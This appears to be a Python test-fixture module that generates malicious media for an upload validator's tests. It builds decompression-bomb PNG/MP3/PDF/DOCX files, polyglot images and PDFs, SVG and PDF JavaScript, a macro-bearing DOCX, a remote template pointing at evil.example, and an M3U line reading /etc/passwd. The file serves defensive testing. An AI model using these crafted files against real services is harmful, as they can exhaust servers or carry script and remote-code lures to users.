"""Packs whose pictures, recordings or documents are made to harm; each builder makes one."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image

from tests.packs.hostile_archives import MIB, Builder, assembled, central, local, zeros, zipped
from tests.packs.packfolder import LESSON_FILE, QUESTION, TEXT, TOP, drawing, fresh

PNG = b"\x89PNG\r\n\x1a\n"
VOICE = (Path(__file__).parent / "data" / "media" / "hello.ogg").read_bytes()
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HTML = b"<html><script>alert(1)</script></html>"


def picture(name: str, data: bytes | Callable[[], bytes]) -> Builder:
    return _with(name, data, f"\n![words]({name})\n")


def document(name: str, data: bytes | Callable[[], bytes]) -> Builder:
    return _with(name, data, f"\n[words]({name})\n")


def voice(name: str, data: bytes | Callable[[], bytes]) -> Builder:
    return _with(name, data, "\n:::transcript\nHello.\n:::\n", f"audio: {name}")


def _with(
    name: str, data: bytes | Callable[[], bytes], mark: str, line: str = "minutes: 4"
) -> Builder:
    def make(folder: Path) -> Path:
        pack = fresh(folder / "pack")
        pack.write(LESSON_FILE, TOP.replace("minutes: 4", line) + TEXT + mark + QUESTION)
        pack.write(f"media/{name}", data if isinstance(data, bytes) else data())
        return pack.path

    return make


# --- pictures ------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *extra: bytes, rows: bytes | None = None) -> bytes:
    """A grey picture; its rows are zeros if they are not given, packed."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    size = (width + 1) * height
    packed = zlib.compress(bytes(size), 9) if rows is None else rows
    return PNG + chunk(b"IHDR", header) + b"".join(extra) + chunk(b"IDAT", packed) + chunk(b"IEND")


def inflating(size: int) -> bytes:
    """A zlib stream of so many zeros, its checksum not right."""
    return b"\x78\x9c" + zeros(size) + b"\0\0\0\0"


def text_bomb() -> bytes:
    return png(10, 10, chunk(b"zTXt", b"a\0\0" + inflating(2000 * MIB)))


def text_bombs() -> bytes:
    """Each below what one part may unpack to."""
    body = zlib.compress(bytes(1000 * 1024), 9)
    return png(10, 10, *(chunk(b"zTXt", b"a%d\0\0" % n + body) for n in range(3_000)))


def long_text_bomb() -> bytes:
    return png(10, 10, chunk(b"iTXt", b"a\0\1\0\0\0" + inflating(2000 * MIB)))


def profile_bomb() -> bytes:
    return png(10, 10, chunk(b"iCCP", b"a\0\0" + inflating(2000 * MIB)))


def row_bomb() -> bytes:
    """A small picture whose rows go on for 2 GB."""
    return png(10, 10, rows=inflating(2000 * MIB))


def many_parts() -> bytes:
    return png(10, 10, *[chunk(b"teXt")] * 400_000)


def animated(frames: int) -> bytes:
    parts = [chunk(b"acTL", struct.pack(">II", frames, 0))]
    return png(10, 10, *parts)


def jpeg(width: int, height: int, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height)).save(out, "JPEG", **options)
    return out.getvalue()


def resized_jpeg(width: int, height: int) -> bytes:
    """A small JPEG that says that it is vast."""
    data = bytearray(jpeg(8, 8))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def scans() -> bytes:
    """A progressive picture of 12 megapixels that is drawn over ten thousand times."""
    data = jpeg(3_500, 3_500, progressive=True)
    last = data.rindex(b"\xff\xda")
    scan = data[last:-2]
    room = 4 * MIB
    return data[:last] + scan * min(10_000, room // len(scan)) + b"\xff\xd9"


def empty_scans() -> bytes:
    """The same with scans that hold next to nothing."""
    data = jpeg(3_500, 3_500, progressive=True)
    first = data.index(b"\xff\xda")
    head = data[first : first + 2 + struct.unpack_from(">H", data, first + 2)[0]]
    return data[:first] + (head + b"\0") * 100_000 + data[first:]


def long_segments() -> bytes:
    data = jpeg(10, 10)
    segment = b"\xff\xe1" + struct.pack(">H", 65_535) + b"Exif\0\0" + bytes(65_527)
    return data[:2] + segment * 70 + data[2:]


def photo_segments() -> bytes:
    """Photoshop's own parts, with lengths that lead nowhere."""
    data = jpeg(10, 10)
    body = b"Photoshop 3.0\0" + b"8BIM\x04\x04\0\0\0\0\0\0" * 5_000
    segment = b"\xff\xed" + struct.pack(">H", len(body) + 2) + body
    return data[:2] + segment * 70 + data[2:]


def exif_circle() -> bytes:
    """Notes of a camera whose list of lists leads back to itself."""
    entry = struct.pack("<HHLL", 0x8769, 4, 1, 8)
    exif = b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 1) + entry + b"\x08\0\0\0"
    data = jpeg(10, 10)
    segment = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    return data[:2] + segment + data[2:]


def padded_jpeg() -> bytes:
    data = jpeg(10, 10)
    return data[:2] + b"\xff" * 4_900_000 + data[2:]


def zip_of(*names: str, content: bytes = b"<x/>", comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.comment = comment
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


def many_pictures(folder: Path) -> Path:
    """Two hundred pictures, each just within what one may be."""
    data = png(4_990, 4_990)
    names = [f"a{n}.png" for n in range(200)]
    marks = "".join(f"\n![words]({name})\n" for name in names)
    files = [
        (zipfile.ZipInfo(f"media/{name}"), data[:-12] + chunk(b"teXt", name.encode()) + data[-12:])
        for name in names
    ]
    return zipped(folder, ("lessons/02-b.md", (TOP + TEXT + marks).encode()), *files)


# --- recordings ----------------------------------------------------------------------------------


def tiny_pages() -> bytes:
    """Five megabytes of empty pages."""
    page = b"OggS\0\0" + bytes(20) + b"\0"
    return VOICE + page * ((5 * MIB - len(VOICE) - 100) // len(page))


def lost_pages() -> bytes:
    """The same, before the voice begins."""
    first = 28 + VOICE[27]
    page = b"OggS\0\0" + bytes(8) + b"\x07\0\0\0" + bytes(8) + b"\0"
    return VOICE[:first] + page * ((5 * MIB - len(VOICE) - 100) // len(page)) + VOICE[first:]


def long_voice() -> bytes:
    """A voice that says that it takes years."""
    data = bytearray(VOICE)
    at = data.rindex(b"OggS")
    struct.pack_into("<q", data, at + 6, 2**62)
    return bytes(data)


def tagged_mp3(size: int, body: bytes) -> bytes:
    length = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\4\0\0" + length + body


def many_tags() -> bytes:
    frame = b"TXXX\0\0\0\x04\0\0\3a\0b"
    body = frame * (4 * MIB // len(frame))
    return tagged_mp3(len(body), body) + b"\xff\xfb\x90\x64" + bytes(413)


def packed_tag() -> bytes:
    """A tag with a packed frame that unpacks to 2 GB."""
    inner = struct.pack(">I", 0x7FFFFFFF) + inflating(2000 * MIB)
    size = bytes((len(inner) >> shift) & 0x7F for shift in (21, 14, 7, 0))
    frame = b"TXXX" + size + b"\0\x09" + inner
    return tagged_mp3(len(frame), frame) + (b"\xff\xfb\x90\x64" + bytes(413)) * 4


def deep_atoms() -> bytes:
    """An M4A of boxes in boxes."""
    data = b""
    for _ in range(5_000):
        data = struct.pack(">I4s", len(data) + 8, b"moov") + data
    return b"\0\0\0\x18ftypM4A \0\0\0\0M4A isom" + data


def many_atoms() -> bytes:
    body = b"\0\0\0\x08free" * 600_000
    return (
        b"\0\0\0\x18ftypM4A \0\0\0\0M4A isom" + struct.pack(">I4s", len(body) + 8, b"moov") + body
    )


# --- documents -----------------------------------------------------------------------------------


def packed_pdf(inner: bytes) -> bytes:
    """A PDF that keeps an object in a packed stream."""
    packed = zlib.compress(inner)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return PDF.replace(b"trailer", b"2 0 obj" + stream + packed + b"\nendstream endobj\ntrailer")


def office(*names: str, content: bytes = b"<x/>") -> bytes:
    return zip_of("[Content_Types].xml", "word/document.xml", *names, content=content)


def many_office() -> bytes:
    """5 MB of empty parts."""
    head = local(b"a", 0, 0, 0)
    return assembled(head, [central(b"%05d" % n, 0, 0, 0, 0) for n in range(95_000)])


REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)

TABLE: dict[str, tuple[Builder, str]] = {
    # --- pictures
    "picture, PNG of 100 megapixels": (
        picture("a.png", lambda: png(10_000, 10_000)),
        "more than 25 million pixels",
    ),
    "picture, PNG that says 4 gigapixels": (
        picture("a.png", lambda: png(65_000, 65_000, rows=b"")),
        "more than 25 million pixels",
    ),
    "picture, JPEG of 100 megapixels": (
        picture("a.jpg", lambda: jpeg(10_000, 10_000)),
        "more than 25 million pixels",
    ),
    "picture, JPEG that says 100 megapixels": (
        picture("a.jpg", lambda: resized_jpeg(10_000, 10_000)),
        "more than 25 million pixels",
    ),
    "picture, line of 60,000 pixels": (picture("a.png", lambda: png(60_000, 1)), "too long for"),
    "picture, JPEG of ten thousand scans": (picture("a.jpg", scans), "scans"),
    "picture, JPEG of empty scans": (picture("a.jpg", empty_scans), "scans"),
    "picture, JPEG with much filling": (picture("a.jpg", padded_jpeg), "is damaged"),
    "picture, PNG with a text that unpacks": (picture("a.png", text_bomb), "is damaged"),
    "picture, PNG with texts that unpack": (picture("a.png", text_bombs), "is damaged"),
    "picture, PNG with a long text that unpacks": (picture("a.png", long_text_bomb), "is damaged"),
    "picture, PNG with a profile that unpacks": (picture("a.png", profile_bomb), "is damaged"),
    "picture, PNG of a million frames": (
        picture("a.png", lambda: animated(1_000_000)),
        "the picture moves",
    ),
    "picture, 6 MB": (picture("a.png", PNG + bytes(6 * MIB)), "larger than 5 MB"),
    "picture, empty": (picture("a.png", b""), "not a picture that can be read"),
    "picture, wrong ending": (picture("a.jpg", lambda: png(10, 10)), "name it .png"),
    "picture, a program": (picture("a.png", b"MZ\x90\0" + bytes(100)), "not a picture that can"),
    "picture, script": (picture("a.svg", b"<svg onload='alert(1)'/>"), "this is an SVG drawing"),
    "picture, script under another name": (
        picture("a.png", b"<?xml version='1.0'?>\n<svg><script>alert(1)</script></svg>"),
        "this is an SVG drawing",
    ),
    "picture, entities": (
        picture("a.svg", b"<!DOCTYPE svg [<!ENTITY a 'aa'>]>\n<svg>&a;</svg>"),
        "save it as JPEG or PNG",
    ),
    "picture, GIF that is a zip too": (
        picture("a.gif", lambda: drawing(kind="GIF") + zip_of("a")),
        "this is a GIF picture",
    ),
    "picture, page under the name of one": (picture("a.png", HTML), "not a picture that can"),
    "picture, comments before a drawing": (
        picture("a.png", b"<!--" + b"-->\n<!--" * 600_000),
        "not a picture that can",
    ),
    "picture, spaces before a drawing": (picture("a.png", b" " * 4_900_000), "not a picture that"),
    "pictures, 200 as large as may be": (many_pictures, "million pixels together"),
    # --- recordings
    "voice, millions of empty pages": (voice("01.ogg", tiny_pages), "not a recording that can be"),
    "voice, pages of others in it": (voice("01.ogg", lost_pages), "not a recording that can be"),
    "voice, years long": (voice("01.ogg", long_voice), "longer than 15 minutes"),
    "voice, MP3 with a vast tag": (
        voice("01.mp3", lambda: tagged_mp3(0x0FFFFFFF, bytes(4 * MIB))),
        "damaged",
    ),
    "voice, MP3 with many tags": (voice("01.mp3", many_tags), "damaged"),
    "voice, MP3 of zeros": (voice("01.mp3", b"\xff\xfb" + bytes(4_900_000)), "damaged"),
    "voice, MP3 of almost frames": (voice("01.mp3", b"\xff\xfb" * 2_400_000), "damaged"),
    "voice, boxes in boxes": (voice("01.m4a", deep_atoms), "damaged"),
    "voice, many boxes": (voice("01.m4a", many_atoms), "the recording is"),
    "voice, a page behind it": (voice("01.ogg", VOICE + HTML), "not a recording that can be"),
    "voice, wrong ending": (voice("01.mp3", VOICE), "name it as it is"),
    "voice, a list of files": (voice("01.wav", b"#EXTM3U\nfile:///etc/passwd\n"), "not played"),
    # --- documents
    "document, PDF that is a zip too": (
        document("a.pdf", lambda: PDF + zip_of("a", comment=b"%%EOF\n")),
        "holds a program or another file",
    ),
    "document, PDF with a page behind it": (document("a.pdf", PDF + HTML), "not a whole PDF"),
    "document, PDF with script": (
        document("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(a)>>")),
        "holds a program or another file",
    ),
    "document, PDF with script in other letters": (
        document("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/AA<</S/J#61va#53cript>>")),
        "holds a program or another file",
    ),
    "document, PDF with packed script": (
        document("a.pdf", packed_pdf(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
        "holds a program or another file",
    ),
    "document, PDF whose stream unpacks": (
        document("a.pdf", lambda: packed_pdf(bytes(200 * MIB))),
        "holds a program or another file",
    ),
    "document, PDF under lock": (
        document("a.pdf", PDF.replace(b"trailer<<", b"trailer<</Encrypt 3 0 R")),
        "is locked",
    ),
    "document, DOCX that is a bomb": (
        document("a.docx", lambda: office("word/a.xml", content=bytes(60 * MIB))),
        "unpacks to a suspiciously large size",
    ),
    "document, DOCX of 100,000 parts": (
        document("a.docx", many_office),
        "more than 5,000 files",
    ),
    "document, DOCX with a macro": (
        document("a.docx", lambda: office("word/vbaProject.bin")),
        "holds a program or another file",
    ),
    "document, DOCX with a remote template": (
        document("a.docx", lambda: office("word/_rels/settings.xml.rels", content=REMOTE)),
        "holds a program or another file",
    ),
    "document, a program": (document("a.pdf", b"MZ\x90\0" + bytes(100)), "not a whole PDF"),
    "document, page": (document("a.zip", zip_of("a")), "save it as PDF, DOCX or XLSX"),
}
"""Each by what it is: its builder, and what its author is told."""


def large(kind: str, mode: str = "RGB", side: int = 4_990, **options: object) -> bytes:
    """As large as may be, lying on its side, with a place in it."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "CameraMaker"
    out = io.BytesIO()
    Image.new(mode, (side, side - 10), 100).save(out, kind, exif=exif, **options)
    return out.getvalue()


CLEANED: dict[str, tuple[Builder, bytes]] = {
    "picture, JPEG that is a page too": (
        picture("a.jpg", lambda: jpeg(40, 30, comment=HTML) + HTML),
        HTML,
    ),
    "picture, PNG that is a page too": (
        picture("a.png", lambda: png(40, 30, chunk(b"tEXt", b"a\0" + HTML)) + HTML),
        HTML,
    ),
    "picture, PNG that is a zip too": (
        picture("a.png", lambda: png(40, 30) + zip_of("evil.exe")),
        b"evil.exe",
    ),
    "picture, large JPEG": (picture("a.jpg", lambda: large("JPEG")), b"CameraMaker"),
    "picture, large JPEG for print": (
        picture("a.jpg", lambda: large("JPEG", "CMYK")),
        b"CameraMaker",
    ),
    "picture, large progressive JPEG": (
        picture("a.jpg", lambda: large("JPEG", side=3_500, progressive=True, subsampling=0)),
        b"CameraMaker",
    ),
    "picture, large clear PNG": (picture("a.png", lambda: large("PNG", "RGBA")), b"CameraMaker"),
    "picture, JPEG with long parts": (picture("a.jpg", long_segments), b"Exif"),
    "picture, JPEG with parts of Photoshop": (picture("a.jpg", photo_segments), b"Photoshop"),
    "picture, JPEG with a circle in it": (picture("a.jpg", exif_circle), b"Exif"),
    "picture, PNG whose rows go on": (picture("a.png", row_bomb), bytes(50)),
    "picture, PNG of 400,000 parts": (picture("a.png", many_parts), b"teXt"),
    "voice, MP3 with a tag that unpacks": (voice("01.mp3", packed_tag), b"ID3"),
}
"""What is harmless once it is read: its builder, and what must be gone."""
